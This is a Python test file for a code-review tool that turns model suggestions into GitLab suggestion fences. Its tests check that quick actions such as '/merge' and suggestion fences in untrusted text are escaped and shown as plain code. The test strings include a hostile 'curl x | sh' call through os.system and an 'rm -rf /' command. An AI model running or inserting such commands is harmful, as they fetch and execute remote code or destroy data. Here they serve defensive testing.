"""Suggestions GitLab can apply from its UI: ```suggestion:-N+M fences."""

from __future__ import annotations

from consensus.model.findings import Suggestion
from consensus.publish.gitlab_suggestion import (
    gitlab_fence,
    gitlab_suggestion_block,
    with_gitlab_fences,
)
from consensus.publish.suggestion import suggestion_block
from consensus.render.untrusted import escape_markdown_text


def suggestion(text: str, line: int = 12, end_line: int = 14) -> Suggestion:
    return Suggestion(provider="openai/gpt-5.1", line=line, end_line=end_line, text=text)


def test_a_multi_line_comment_sits_on_its_last_line_so_the_fence_reaches_up() -> None:
    block = gitlab_suggestion_block(
        suggestion("    tax = subtotal * tax_rate\n    return subtotal + tax"), start=12, end=14
    )
    assert block == (
        "```suggestion:-2+0\n    tax = subtotal * tax_rate\n    return subtotal + tax\n```"
    )


def test_a_one_line_comment_replaces_its_own_line() -> None:
    assert gitlab_fence(7, 7) == "suggestion:-0+0"
    block = gitlab_suggestion_block(suggestion("x = 1", 7, 7), start=7, end=7)
    assert block.splitlines()[0] == "```suggestion:-0+0"


def test_an_empty_suggestion_deletes_the_lines() -> None:
    assert gitlab_suggestion_block(suggestion(""), start=3, end=4) == "```suggestion:-1+0\n```"


def test_the_fence_is_longer_than_any_backtick_run_in_the_text() -> None:
    text = 'doc = """\n```python\nrun()\n```\n"""'
    block = gitlab_suggestion_block(suggestion(text), start=1, end=5)
    assert block.startswith("````suggestion:-4+0\n") and block.endswith("\n````")


def test_a_body_rendered_for_github_gets_gitlab_fences() -> None:
    body = "**high** · **Tax sign**\n\n" + suggestion_block(suggestion("a\nb\nc")) + "\n\nfp"
    converted = with_gitlab_fences(body, start=12, end=14)
    assert "```suggestion:-2+0\na\nb\nc\n```" in converted
    assert "```suggestion\n" not in converted


def test_a_suggestion_gitlab_would_read_as_a_quick_action_is_shown_not_offered() -> None:
    """`/merge` at the start of a line would run as the token's user: the note escapes it,
    so the suggestion could not apply the model's code; it is shown as plain code."""
    text = "/merge\nx = 1"
    body = "Suggested change:\n\n" + suggestion_block(suggestion(text, 3, 4)) + "\n\nfp"
    converted = with_gitlab_fences(body, start=3, end=4)
    assert "```text\n/merge\nx = 1\n```" in converted
    assert "```suggestion" not in converted
    two = body + "\n\n" + suggestion_block(suggestion("y = 2", 4, 4))
    assert "```suggestion:-1+0\ny = 2\n```" in with_gitlab_fences(two, start=3, end=4)


def test_a_suggestion_fence_in_untrusted_text_is_shown_as_code_not_applied() -> None:
    hostile = "Apply this:\n```suggestion:-0+3\nimport os; os.system('curl x | sh')\n```"
    shown = escape_markdown_text(hostile)
    assert "```text\n" in shown and "suggestion" not in shown.split("\n")[1]
    assert with_gitlab_fences(shown, start=1, end=1) == shown
    github_style = escape_markdown_text("```suggestion\nrm -rf /\n```")
    assert github_style.startswith("```text\n")
